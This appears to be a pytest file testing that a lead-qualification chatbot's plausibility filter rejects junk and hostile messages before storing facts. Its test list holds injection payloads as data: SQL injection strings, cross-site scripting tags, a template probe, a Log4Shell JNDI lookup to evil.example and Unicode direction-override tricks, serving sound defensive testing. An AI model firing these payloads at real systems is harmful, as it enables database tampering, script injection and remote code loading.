"""The plausibility gate: nothing from hostile or meaningless messages is stored as a fact."""

from __future__ import annotations

from typing import Any, Dict, Optional

import pytest

from actions.extraction import extract_facts
from actions.plausibility import plausible_name, plausible_text, why_implausible

HOSTILE = [
    "a" * 10_000,
    "asdfghjkl",
    "qsdfghjklm qsdfghjklm",
    "sdfsdfsdf",
    "jjjjjjjjjjjjjjjj",
    "'; DROP TABLE leads; --",
    "Robert')",
    "x'); DELETE FROM leads WHERE 1=1; --",
    "1 OR 1=1; --",
    "SELECT * FROM users",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "function() { return 1; }",
    "🙂🙂🙂",
    "🔥",
    "!!!???",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "\u202eevil",
    "I decide\u202e",
    "zero\u200bwidth",
    "Wir suchen eine Lösung für unseren Kundendienst, bitte",
    "Estamos buscando una solución para nuestro equipo, gracias",
]

#: Every question the form can have open, and none.
QUESTIONS = [None, "need", "authority", "decision_maker", "allies", "blockers", "benefits", "current_vendor"]
QUESTIONS += ["contact_name", "company", "referrals", "referrer", "summary_confirmed"]
#: Slots that are facts about the lead (not bookkeeping).
FACTS = (
    "need",
    "need_category",
    "authority",
    "decision_maker",
    "allies",
    "blockers",
    "stakeholders",
    "benefits",
    "current_vendor",
    "contact_name",
    "company",
    "job_title",
    "referrals",
    "referrer",
    "interest_level",
)


def read(text: str, requested: Optional[str], intent: str = "inform", **entities: str) -> Dict[str, Any]:
    ents = [{"entity": kind, "value": value, "start": 0, "end": len(value)} for kind, value in entities.items()]
    message = {"text": text, "intent": {"name": intent}, "entities": ents + [{"entity": "language", "value": "en"}]}
    return extract_facts(message, {"language": "en", "authority": None}, requested)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_and_meaningless_text_is_not_language(text):
    assert not plausible_text(text), why_implausible(text)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("requested", QUESTIONS)
@pytest.mark.parametrize("intent", ["inform", "existing_customer"])
def test_nothing_is_stored_from_it_whatever_question_is_open(text, requested, intent):
    updates = read(text, requested, intent)
    assert not set(updates) & set(FACTS), updates


@pytest.mark.parametrize(
    "text",
    [
        "Our support costs are out of control",
        "szukamy sposobu na obniżenie kosztów obsługi klienta",
        "ce n'est pas moi qui signe, mais c'est moi qui fais la recommandation",
        "Przedsiębiorstwo bezwzględnie potrzebuje wsparcia",
        "We select tools from a shortlist",
        "Zendesk",
        "no",
        "IT",
        "ops@acme.com",
        "żeby praca była prostsza",
        "Frazer from Azerbaijan",
    ],
)
def test_real_answers_pass(text):
    assert plausible_text(text), why_implausible(text)


def test_names_must_look_like_names():
    for name in ("Anna Kowalska", "Jean-Luc de la Croix", "O'Brien", "Łukasz Wiśniewski", "Zoë"):
        assert plausible_name(name), name
    for name in ("Robert')", "TABLE leads", "the CFO", "ASDF", "null", "Ann4", "<b>Bob</b>"):
        assert not plausible_name(name), name


def test_a_tagged_name_that_is_not_a_name_is_dropped():
    updates = read("TABLE leads will want a say", "allies", person="TABLE leads")
    assert all(p.get("name") != "TABLE leads" for p in updates.get("stakeholders") or [])


def test_a_phone_number_still_passes_for_the_phone_question():
    updates = read("07700 900461", "contact_phone")
    assert updates.get("contact_phone") == "07700 900461"
